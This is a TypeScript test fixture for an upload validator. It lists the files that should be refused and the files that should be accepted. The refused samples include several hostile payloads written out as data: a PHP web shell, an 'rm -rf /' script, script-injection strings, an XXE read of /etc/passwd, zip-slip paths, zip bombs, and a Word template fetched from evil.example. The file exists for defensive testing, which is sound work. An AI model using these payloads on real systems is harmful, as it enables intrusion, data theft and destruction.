import { compoundBytes } from './compound-bytes.ts';
import { jpegBytes, pdfBytes, pngBytes, tiffBytes } from './sample-bytes.ts';
import { type HostileEntry, zipBytes } from './zip-bytes.ts';

export interface Sample {
  what: string;
  name: string;
  make: () => Buffer;
}

const text = (content: string) => Buffer.from(content);
const latin1 = (content: string) => Buffer.from(content, 'latin1');
const entry = (name: string, content: string | Buffer = 'текст'): HostileEntry => ({
  name,
  content: Buffer.from(content),
});

const contentTypes = (type: string) => entry('[Content_Types].xml', `<Types><Override ContentType="${type}"/></Types>`);
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
const docxBytes = (...more: HostileEntry[]) =>
  zipBytes([contentTypes(WORD), entry('word/document.xml', '<w/>'), ...more]);
const odfBytes = (kind: string, ...more: HostileEntry[]) =>
  zipBytes([entry('mimetype', `application/vnd.oasis.opendocument.${kind}`), entry('content.xml', '<o/>'), ...more]);
const signature = () => Buffer.from('3082020006092a864886f70d010702a08201f1308201ed0201013100', 'hex');

/** What is refused. Each is made here, so that nothing hostile lies in the repository. */
export const REFUSED: readonly Sample[] = [
  {
    what: 'program of Windows as PDF',
    name: 'акт.pdf',
    make: () => latin1('MZ\x90\0\x03\0\0\0This program cannot be run'),
  },
  { what: 'program of Linux as PDF', name: 'акт.pdf', make: () => latin1(`\x7fELF\x02\x01\x01${'\0'.repeat(60)}`) },
  { what: 'Java class as picture', name: 'фото.png', make: () => latin1('\xca\xfe\xba\xbe\0\0\0\x34') },
  { what: 'shell script as text', name: 'а.txt', make: () => text('#!/bin/sh\nrm -rf /\n') },
  { what: 'command file as text', name: 'а.txt', make: () => text('@echo off\r\ndel *.*\r\n') },
  { what: 'page as text', name: 'а.txt', make: () => text('<!DOCTYPE html><html><script>alert(1)</script></html>') },
  { what: 'page as PDF', name: 'а.pdf', make: () => text('<html><body onload=alert(1)></body></html>') },
  { what: 'page under its own name', name: 'а.html', make: () => text('<html></html>') },
  { what: 'PHP as text', name: 'а.txt', make: () => text('<?php system($_GET["c"]); ?>') },
  {
    what: 'SVG with a script',
    name: 'а.svg',
    make: () => text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  },
  {
    what: 'SVG as XML',
    name: 'а.xml',
    make: () => text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  },
  { what: 'SVG as picture', name: 'а.png', make: () => text('<svg xmlns="http://www.w3.org/2000/svg"/>') },
  {
    what: 'page inside XML',
    name: 'а.xml',
    make: () => text('<?xml version="1.0"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:b/></a>'),
  },
  {
    what: 'entities in XML',
    name: 'а.xml',
    make: () => text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
  },
  {
    what: 'style sheet in XML',
    name: 'а.xml',
    make: () => text('<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>'),
  },
  {
    what: 'picture with an archive behind it',
    name: 'а.png',
    make: () => Buffer.concat([pngBytes(1, 1), zipBytes([entry('a.txt')])]),
  },
  {
    what: 'PDF with an archive behind it',
    name: 'а.pdf',
    make: () => Buffer.concat([pdfBytes(), zipBytes([entry('a.txt')])]),
  },
  {
    what: 'page in front of a PDF',
    name: 'а.pdf',
    make: () => Buffer.concat([text('<html><script>1</script>'), pdfBytes()]),
  },
  { what: 'PDF inside a picture', name: 'а.jpg', make: () => jpegBytes(1, 1, '%PDF-1.4 1 0 obj') },
  {
    what: 'script in the comment of a picture',
    name: 'а.jpg',
    make: () => jpegBytes(1, 1, '<script>alert(1)</script>'),
  },
  { what: 'GIF as PNG', name: 'а.png', make: () => latin1(`GIF89a\x01\0\x01\0${'\0'.repeat(20)};`) },
  {
    what: 'zip bomb by ratio',
    name: 'а.zip',
    make: () => zipBytes([{ name: 'a.txt', content: Buffer.alloc(64 * 1024 * 1024) }]),
  },
  {
    what: 'zip bomb by number of files',
    name: 'а.zip',
    make: () => zipBytes(Array.from({ length: 2001 }, (_, at) => entry(`${at}.txt`, ''))),
  },
  {
    what: 'zip bomb in layers',
    name: 'а.zip',
    make: () => zipBytes([entry('2.zip', zipBytes([entry('3.zip', zipBytes([entry('a.txt')]))]))]),
  },
  {
    what: 'zip that lies about a size',
    name: 'а.zip',
    make: () => zipBytes([{ ...entry('a.txt', 'б'.repeat(5000)), declaredSize: 10 }]),
  },
  { what: 'zip slip upwards', name: 'а.zip', make: () => zipBytes([entry('../../etc/cron.d/a.txt')]) },
  { what: 'zip slip to the root', name: 'а.zip', make: () => zipBytes([entry('/etc/passwd.txt')]) },
  { what: 'zip slip of Windows', name: 'а.zip', make: () => zipBytes([entry('C:\\Windows\\a.txt')]) },
  {
    what: 'link in a zip',
    name: 'а.zip',
    make: () => zipBytes([{ ...entry('a.txt', '/etc/passwd'), mode: 0o120777 }]),
  },
  { what: 'zip with a password', name: 'а.zip', make: () => zipBytes([{ ...entry('a.txt'), flags: 1 }]) },
  { what: 'program in a zip', name: 'а.zip', make: () => zipBytes([entry('readme.txt', latin1('MZ\x90\0'))]) },
  { what: 'script in a zip', name: 'а.zip', make: () => zipBytes([entry('invoice.pdf.js', 'alert(1)')]) },
  { what: 'archive without a file', name: 'а.zip', make: () => zipBytes([entry('folder/', '')]) },
  { what: 'broken archive', name: 'а.zip', make: () => zipBytes([entry('a.txt')]).subarray(0, 40) },
  {
    what: 'document with macros by its name of type',
    name: 'а.docx',
    make: () =>
      zipBytes([contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml'), entry('word/document.xml')]),
  },
  { what: 'document with a hidden macro', name: 'а.docx', make: () => docxBytes(entry('word/vbaProject.bin')) },
  { what: 'document with an ActiveX part', name: 'а.docx', make: () => docxBytes(entry('word/activeX/activeX1.xml')) },
  {
    what: 'document that loads a template',
    name: 'а.docx',
    make: () =>
      docxBytes(
        entry(
          'word/_rels/settings.xml.rels',
          '<R Type="x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>',
        ),
      ),
  },
  {
    what: 'text document with Basic',
    name: 'а.odt',
    make: () => odfBytes('text', entry('Basic/Standard/Module1.xml')),
  },
  { what: 'old table with macros', name: 'а.xls', make: () => compoundBytes(['Workbook', '_VBA_PROJECT_CUR', 'VBA']) },
  {
    what: 'old document with macros',
    name: 'а.doc',
    make: () => compoundBytes(['WordDocument', 'Data', '1Table', 'Macros', 'VBA']),
  },
  {
    what: 'document with a password',
    name: 'а.docx',
    make: () => compoundBytes(['EncryptedPackage', 'EncryptionInfo']),
  },
  { what: 'installer as document', name: 'а.doc', make: () => compoundBytes(['\u4840\u3f3f', '!Install']) },
  {
    what: 'RTF with an embedded object',
    name: 'а.rtf',
    make: () => text('{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}}'),
  },
  {
    what: 'PDF that starts a program',
    name: 'а.pdf',
    make: () => latin1('%PDF-1.7\n<< /S /Launch /F (cmd.exe) >>\n%%EOF'),
  },
  {
    what: 'PDF with JavaScript',
    name: 'а.pdf',
    make: () => latin1('%PDF-1.7\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\n%%EOF'),
  },
  { what: 'half of a PDF', name: 'а.pdf', make: () => pdfBytes().subarray(0, 60) },
  { what: 'picture of 1.6 gigapixels', name: 'а.png', make: () => pngBytes(40_000, 40_000) },
  { what: 'photograph of 4 gigapixels', name: 'а.jpg', make: () => jpegBytes(65_000, 65_000) },
  { what: 'scan of 10 gigapixels', name: 'а.tif', make: () => tiffBytes(100_000, 100_000) },
  { what: 'picture without size', name: 'а.png', make: () => pngBytes(0, 0) },
  { what: 'empty file', name: 'а.pdf', make: () => Buffer.alloc(0) },
  {
    what: 'noise',
    name: 'а.pdf',
    make: () => Buffer.from(Array.from({ length: 500 }, (_, at) => (at * 73 + 5) % 256)),
  },
  { what: 'document under the name of a PDF', name: 'а.pdf', make: () => docxBytes() },
  { what: 'PDF under the name of a program', name: 'а.exe', make: () => pdfBytes() },
];

/** What is accepted, and the type it is served as. */
export const ACCEPTED: readonly (Sample & { mediaType: string })[] = [
  { what: 'PDF', name: 'акт.pdf', mediaType: 'application/pdf', make: pdfBytes },
  { what: 'PNG', name: 'фото.png', mediaType: 'image/png', make: () => pngBytes(640, 480) },
  { what: 'JPEG', name: 'фото.JPEG', mediaType: 'image/jpeg', make: () => jpegBytes(640, 480) },
  { what: 'TIFF', name: 'скан.tiff', mediaType: 'image/tiff', make: () => tiffBytes(2480, 3508) },
  {
    what: 'DOCX',
    name: 'а.docx',
    mediaType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    make: () => docxBytes(),
  },
  {
    what: 'XLSX',
    name: 'а.xlsx',
    mediaType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    make: () => zipBytes([contentTypes(SHEET), entry('xl/workbook.xml', '<w/>')]),
  },
  { what: 'ODT', name: 'а.odt', mediaType: 'application/vnd.oasis.opendocument.text', make: () => odfBytes('text') },
  {
    what: 'ODS',
    name: 'а.ods',
    mediaType: 'application/vnd.oasis.opendocument.spreadsheet',
    make: () => odfBytes('spreadsheet'),
  },
  {
    what: 'DOC',
    name: 'а.doc',
    mediaType: 'application/msword',
    make: () => compoundBytes(['WordDocument', '1Table']),
  },
  { what: 'XLS', name: 'а.xls', mediaType: 'application/vnd.ms-excel', make: () => compoundBytes(['Workbook']) },
  { what: 'RTF', name: 'а.rtf', mediaType: 'application/rtf', make: () => text('{\\rtf1\\ansi Hello}') },
  { what: 'text of one character', name: 'а.txt', mediaType: 'text/plain', make: () => text('5') },
  { what: 'text in UTF-8', name: 'а.txt', mediaType: 'text/plain', make: () => text('Пояснение к заявлению\n') },
  {
    what: 'text in Windows-1251',
    name: 'а.txt',
    mediaType: 'text/plain',
    make: () => Buffer.from('cff0e8ecfcf7e0ede8e50d0a', 'hex'),
  },
  {
    what: 'text in UTF-16',
    name: 'а.txt',
    mediaType: 'text/plain',
    make: () => Buffer.from('\ufeffПояснение', 'utf16le'),
  },
  { what: 'table as CSV', name: 'а.csv', mediaType: 'text/csv', make: () => text('код;имя\n1;Дом\n') },
  {
    what: 'XML',
    name: 'а.xml',
    mediaType: 'application/xml',
    make: () => text('<?xml version="1.0" encoding="UTF-8"?>\n<extract><object/></extract>'),
  },
  {
    what: 'archive',
    name: 'а.zip',
    mediaType: 'application/zip',
    make: () => zipBytes([entry('Чертежи/план.dwg', 'AC1032'), entry('a.docx', docxBytes())]),
  },
  { what: 'signature', name: 'а.pdf.sig', mediaType: 'application/pkcs7-signature', make: signature },
  {
    what: 'signature as text',
    name: 'а.p7s',
    mediaType: 'application/pkcs7-signature',
    make: () => text(Buffer.concat([signature(), Buffer.alloc(60)]).toString('base64')),
  },
  { what: 'PDF without an extension', name: 'скан', mediaType: 'application/pdf', make: pdfBytes },
];
